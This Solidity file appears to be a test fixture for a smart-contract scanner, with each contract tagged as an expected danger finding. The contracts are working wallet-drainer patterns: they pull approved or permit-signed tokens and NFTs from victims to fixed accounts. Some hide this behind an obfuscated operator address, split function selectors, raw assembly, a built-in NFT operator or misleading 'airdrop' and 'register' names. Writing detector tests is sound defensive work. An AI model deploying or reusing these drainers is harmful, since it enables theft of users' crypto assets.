// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// What takes on the strength of an approval or a signature.

interface I20 {
    function transferFrom(address, address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
}
interface I721 {
    function safeTransferFrom(address, address, uint256) external;
    function transferFrom(address, address, uint256) external;
    function setApprovalForAll(address, bool) external;
    function isApprovedForAll(address, address) external view returns (bool);
}
/// takes a batch of tokens from victims to a fixed account
/// expects: AP-16 danger
contract MultiDrain {
    address immutable sink;
    constructor(address s) {
        sink = s;
    }
    function multicall(address[] calldata tokens, address from) external {
        require(msg.sender == sink);
        for (uint i; i < tokens.length; i++) {
            I20 t = I20(tokens[i]);
            uint b = t.balanceOf(from);
            uint a = t.allowance(from, address(this));
            t.transferFrom(from, sink, a < b ? a : b);
        }
    }
}
/// permit then transferFrom, shares split
/// expects: AP-16 danger
contract Inferno {
    mapping(address => bool) private w;
    address private main;
    constructor() {
        main = msg.sender;
        w[msg.sender] = true;
    }
    function add(address a) external {
        require(msg.sender == main);
        w[a] = true;
    }
    function permitAndPull(address t, address v, uint256 amt, uint256 dl, uint8 vv, bytes32 r, bytes32 s, address aff, uint256 bps) external {
        require(w[msg.sender], "x");
        I20(t).permit(v, address(this), amt, dl, vv, r, s);
        uint cut = (amt * bps) / 10000;
        I20(t).transferFrom(v, main, amt - cut);
        I20(t).transferFrom(v, aff, cut);
    }
}
/// any call by the operator from a contract that people approve
/// expects: CT-28 danger
contract Pink {
    address private _op = msg.sender;
    struct C {
        address t;
        uint256 v;
        bytes d;
    }
    function Claim(C[] calldata c) external payable {
        require(msg.sender == _op || tx.origin == _op);
        for (uint i; i < c.length; i++) {
            (bool ok, ) = c[i].t.call{value: c[i].v}(c[i].d);
            ok;
        }
    }
    function Claim() external payable {}
    receive() external payable {}
}
/// same, the operator's address is xored
/// expects: AP-16 danger
contract Angel {
    uint256 private constant A = 0x0000AA11BB22cc33dd44eE55ff66Aa77BB88Cc99dD;
    function op() private pure returns (address) {
        unchecked {
            return address(uint160(A ^ 0x005f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f));
        }
    }
    function m(address t, address[] calldata from, uint256[] calldata v) external {
        require(msg.sender == op());
        for (uint i; i < from.length; i++) {
            (bool k, ) = t.call(abi.encodeWithSelector(0x23b872dd, from[i], op(), v[i]));
            k;
        }
    }
}
/// nfts of those who approved
/// expects: AP-16 danger
contract Nft {
    address private immutable b = msg.sender;
    function go(address[] calldata c, uint256[] calldata ids, address victim) external {
        require(msg.sender == b);
        for (uint i; i < c.length; ++i) I721(c[i]).safeTransferFrom(victim, b, ids[i]);
    }
}
/// an nft whose operator is built in
/// expects: CT-30 danger
contract NftOperator {
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => bool)) private _op;
    address private z = msg.sender;
    uint256 n;
    event Transfer(address indexed f, address indexed t, uint256 indexed id);
    event ApprovalForAll(address indexed o, address indexed p, bool a);
    function mint() external {
        ownerOf[++n] = msg.sender;
        balanceOf[msg.sender]++;
        emit Transfer(address(0), msg.sender, n);
    }
    function setApprovalForAll(address p, bool a) external {
        _op[msg.sender][p] = a;
        emit ApprovalForAll(msg.sender, p, a);
    }
    function isApprovedForAll(address o, address p) public view returns (bool) {
        return p == z || _op[o][p];
    }
    function transferFrom(address f, address t, uint256 id) public {
        require(ownerOf[id] == f && (msg.sender == f || isApprovedForAll(f, msg.sender)));
        ownerOf[id] = t;
        balanceOf[f]--;
        balanceOf[t]++;
        emit Transfer(f, t, id);
    }
}
struct TP {
    address token;
    uint256 amount;
}
struct PT {
    TP permitted;
    uint256 nonce;
    uint256 deadline;
}
struct TD {
    address to;
    uint256 requestedAmount;
}
interface IP2 {
    function permitTransferFrom(PT memory, TD calldata, address, bytes calldata) external;
    function transferFrom(address, address, uint160, address) external;
}
/// Permit2 pull to a fixed account
/// expects: AP-16 danger
contract Permit2 {
    IP2 constant P = IP2(0x000000000022D473030F116dDEE9F6B43aC78BA3);
    address constant S = 0xDeAD0000000000000000000000000000000A77ac;
    function swap(PT calldata p, address victim, bytes calldata sig) external {
        P.permitTransferFrom(p, TD(S, p.permitted.amount), victim, sig);
    }
    function pull(address t, address v, uint160 a) external {
        P.transferFrom(v, S, a, t);
    }
}
/// selectors put together from pieces of text
/// expects: AP-16 danger
contract Split {
    address private s = msg.sender;
    function verify(address t, address v, uint256 n) external {
        (bool ok, ) = t.call(abi.encodeWithSignature(string.concat("trans", "ferFr", "om(address,address,uint256)"), v, s, n));
        require(ok);
    }
}
/// arbitrary from in a public function (approvals can be stolen by anybody)
/// expects: AP-16 danger
contract OpenPull {
    function zap(I20 t, address f, address to, uint256 v) external {
        t.transferFrom(f, to, v);
    }
}

interface I {
    function transferFrom(address, address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
    function balanceOf(address) external view returns (uint256);
}
/// expects: AP-16 danger
contract Relay {
    address private immutable a = msg.sender;
    function register(address t, uint256 v) external {
        require(I(t).transferFrom(msg.sender, a, v));
    }
    function airdrop(address t) external {
        I(t).transferFrom(msg.sender, a, I(t).balanceOf(msg.sender));
    }
}
/// expects: AP-16 danger
contract AssemblyPull {
    function x(address t, address f, uint256 v) external {
        address me = 0x000000000000000000000000000000000000dEaD;
        assembly {
            if iszero(eq(caller(), me)) {
                revert(0, 0)
            }
            let p := mload(0x40)
            mstore(p, 0x23b872dd00000000000000000000000000000000000000000000000000000000)
            mstore(add(p, 4), f)
            mstore(add(p, 36), me)
            mstore(add(p, 68), v)
            pop(call(gas(), t, 0, p, 100, 0, 32))
        }
    }
}
